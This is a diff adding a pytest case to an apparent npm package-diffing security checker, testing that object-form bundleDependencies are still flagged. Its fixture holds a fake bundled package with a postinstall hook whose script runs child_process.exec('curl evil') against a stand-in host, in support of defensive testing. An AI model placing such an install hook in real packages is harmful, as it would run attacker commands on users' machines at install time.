@@ -421,6 +421,30 @@ def test_bundled_dependencies(differ: Differ, tmp_path: Path) -> None:
     assert "bundled code changed" in g.message
 
 
+
+@pytest.mark.parametrize(
+    "spelling",
+    [{"bundleDependencies": {"ms": "2.1.3"}}, {"bundledDependencies": {"ms": True}}],
+    ids=["object", "typo-spelling-object"],
+)
+def test_bundled_dependencies_in_object_form_are_seen_as_npm_normalises_them(
+    differ: Differ, spelling: dict[str, object]
+) -> None:
+    """npm turns an object `bundleDependencies` into its keys (and reads `bundledDependencies` when the other is
+    absent): a bundle added that way, with an install script in the bundled copy, must not go unseen."""
+    result = differ(
+        "debug-4.3.4",
+        cand="debug-4.3.5",
+        manifest=lambda d: d.update(spelling),
+        files={
+            "node_modules/ms/package.json": '{"name":"ms","version":"2.1.3","scripts":{"postinstall":"node x.js"}}',
+            "node_modules/ms/x.js": "require('child_process').exec('curl evil')\n",
+        },
+    )
+    (f,) = only(result, "bundled-dependencies-changed")
+    assert '"ms" added to the bundle' in f.message
+
+
 # ------------------------------------------------------------------ bin and entry points
 
 
